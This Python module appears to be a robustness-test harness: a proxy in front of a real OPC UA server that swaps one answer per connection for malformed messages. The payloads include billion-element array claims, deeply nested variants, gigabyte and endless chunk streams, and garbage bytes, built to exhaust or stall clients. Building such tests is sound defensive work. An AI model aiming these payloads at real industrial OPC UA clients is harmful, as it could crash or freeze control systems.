"""A server that sends what breaks OPC UA clients: it stands before a real one and spoils one kind of its answers.

All goes well until the first notification (or another answer). What comes in its place is one of `ATTACKS`: each is
a few bytes, or bytes without end, that make a careless reader work for minutes, eat all memory, or lose its way.
"""

import asyncio
import struct
from collections.abc import Callable, Iterator
from contextlib import closing, suppress
from dataclasses import dataclass
from itertools import count, repeat

from field_wires import Between

PUBLISH_RESPONSE, DATA_CHANGE, READ_RESPONSE = 829, 811, 634  # their numbers in the standard
MOST = 2**31 - 1
DEEP = 10_000
MESSAGE, FINAL, MORE = b"MSG", b"F", b"C"


@dataclass(frozen=True, slots=True)
class Answer:
    """The envelope of the answer whose place is taken."""

    channel: int
    token: int
    sequence: int
    request: int

    @classmethod
    def of(cls, message: bytes) -> "Answer":
        """Read it off a real answer."""
        return cls(*struct.unpack_from("<4I", message, 8))

    def chunk(self, body: bytes, kind: bytes = FINAL, claimed: int | None = None, nth: int = 0) -> bytes:
        """Put a body into the envelope; `claimed` is the length that it pretends to have."""
        size = 24 + len(body) if claimed is None else claimed
        head = struct.pack("<3s1sI", MESSAGE, kind, size)
        return head + struct.pack("<4I", self.channel, self.token, self.sequence + nth, self.request) + body


Attack = Callable[[Answer], Iterator[bytes]]


def _type_id(number: int) -> bytes:
    return struct.pack("<BBH", 1, 0, number)


NOTIFICATION, READ, HELLO = _type_id(DATA_CHANGE), _type_id(READ_RESPONSE), b"ACKF"


def _response(diagnostics: bytes = b"\x00", kind: int = PUBLISH_RESPONSE) -> bytes:
    """Begin an answer: its type and its header."""
    header = struct.pack("<qII", 0, 1, 0) + diagnostics + struct.pack("<i", -1) + b"\x00\x00\x00"
    return _type_id(kind) + header


def _notification(value: bytes, changes: int = 1) -> bytes:
    """Say that the value of the first signal is this variant."""
    body = struct.pack("<iI", changes, 1) + b"\x01" + value + struct.pack("<i", -1)
    data = _type_id(DATA_CHANGE) + b"\x01" + struct.pack("<i", len(body)) + body
    head = struct.pack("<IiBIqi", 1, -1, 0, 1, 0, 1)
    return _response() + head + data + struct.pack("<ii", -1, -1)


def _array(kind: int, length: int, content: bytes = b"") -> bytes:
    return struct.pack("<Bi", 0x80 | kind, length) + content


def endless_nulls(answer: Answer) -> Iterator[bytes]:
    """Claim two thousand million elements of a type that takes no bytes."""
    yield answer.chunk(_notification(_array(0, MOST)))


def many_nulls(answer: Answer) -> Iterator[bytes]:
    """Claim thirty million of them: seconds of work, and 240 MB."""
    yield answer.chunk(_notification(_array(0, 30_000_000)))


def nulls_read(answer: Answer) -> Iterator[bytes]:
    """Claim two thousand million of them, as the answer to a question."""
    value = b"\x01" + _array(0, MOST)
    yield answer.chunk(_response(kind=READ_RESPONSE) + struct.pack("<i", 1) + value + struct.pack("<i", -1))


def long_array(answer: Answer) -> Iterator[bytes]:
    """Claim two thousand million doubles, and send none."""
    yield answer.chunk(_notification(_array(11, MOST)))


def long_string(answer: Answer) -> Iterator[bytes]:
    """Claim two thousand million characters, and send three."""
    yield answer.chunk(_notification(struct.pack("<Bi", 12, MOST) + b"abc"))


def many_changes(answer: Answer) -> Iterator[bytes]:
    """Claim two thousand million changes in one notification."""
    yield answer.chunk(_notification(struct.pack("<Bd", 11, 1.0), MOST))


def nested_variants(answer: Answer) -> Iterator[bytes]:
    """Put a variant into a variant into a variant, ten thousand deep."""
    yield answer.chunk(_notification(_array(24, 1) * DEEP + b"\x00"))


def nested_diagnostics(answer: Answer) -> Iterator[bytes]:
    """Explain the explanation of the explanation, ten thousand deep."""
    yield answer.chunk(_response(b"\x40" * DEEP + b"\x00"))


def wild_dimensions(answer: Answer) -> Iterator[bytes]:
    """Give one number, and say that it is a matrix of a million rows."""
    shape = struct.pack("<iii", 2, 1_000_000, 1)
    yield answer.chunk(_notification(struct.pack("<Bii", 0xC0 | 6, 1, 7) + shape))


def garbage(answer: Answer) -> Iterator[bytes]:
    """Send bytes without sense in a right envelope."""
    yield answer.chunk(bytes(range(256)) * 16)


def no_envelope(_: Answer) -> Iterator[bytes]:
    """Send bytes without sense, and no envelope."""
    yield bytes(range(255, -1, -1)) * 16


def cut_off(answer: Answer) -> Iterator[bytes]:
    """Send half a notification as if it were whole."""
    whole = _notification(struct.pack("<Bd", 11, 1.0))
    yield answer.chunk(whole[: len(whole) // 2])


def never_finished(answer: Answer) -> Iterator[bytes]:
    """Announce a message, and never send the rest of it."""
    yield answer.chunk(b"\x00" * 100, claimed=60_000)


def vast_message(answer: Answer) -> Iterator[bytes]:
    """Announce a message of a gigabyte, and send it."""
    yield answer.chunk(b"", claimed=2**30)
    yield from repeat(bytes(2**16), 2**14)


def endless_chunks(answer: Answer) -> Iterator[bytes]:
    """Send the pieces of a message that has no end."""
    for nth in count():
        yield answer.chunk(bytes(60_000), MORE, nth=nth)


def small_chunks(answer: Answer) -> Iterator[bytes]:
    """Send empty pieces of a message that has no end."""
    for nth in count(step=1000):
        yield b"".join(answer.chunk(b"", MORE, nth=nth + each) for each in range(1000))


ATTACKS: tuple[Attack, ...] = (
    *(endless_nulls, many_nulls, long_array, long_string, many_changes),
    *(nested_variants, nested_diagnostics, wild_dimensions),
    *(garbage, no_envelope, cut_off, never_finished, vast_message, endless_chunks, small_chunks),
)


class Hostile(Between):
    """Stands before a real server. While `attack` is set, one answer in each connection is replaced.

    That is the first in which `instead_of` stands.
    """

    def __init__(self, port: int, attack: Attack | None, instead_of: bytes = NOTIFICATION) -> None:
        super().__init__(port)
        self.attack = attack
        self.attacks = 0
        self._instead_of = instead_of

    async def _join(self, near: asyncio.StreamReader, to_near: asyncio.StreamWriter) -> None:
        far, to_far = await asyncio.open_connection("127.0.0.1", self._to)
        for work in (self._up(near, to_far), self._down(far, to_near)):
            task = asyncio.create_task(work)
            self._tasks.add(task)
            task.add_done_callback(self._tasks.discard)

    async def _up(self, near: asyncio.StreamReader, to_far: asyncio.StreamWriter) -> None:
        """Pass on what the client says."""
        with closing(to_far.transport), suppress(ConnectionError):
            while data := await near.read(65536):
                to_far.write(data)

    async def _down(self, far: asyncio.StreamReader, to_near: asyncio.StreamWriter) -> None:
        """Pass on what the server says, but for one answer."""
        attacked = False
        with closing(to_near.transport), suppress(ConnectionError, asyncio.IncompleteReadError):
            while True:
                head = await far.readexactly(8)
                message = head + await far.readexactly(int.from_bytes(head[4:], "little") - 8)
                if self.attack and not attacked and self._instead_of in message:
                    attacked = True
                    self.attacks += 1
                    for piece in self.attack(Answer.of(message)):
                        to_near.write(piece)
                        await to_near.drain()
                else:
                    to_near.write(message)
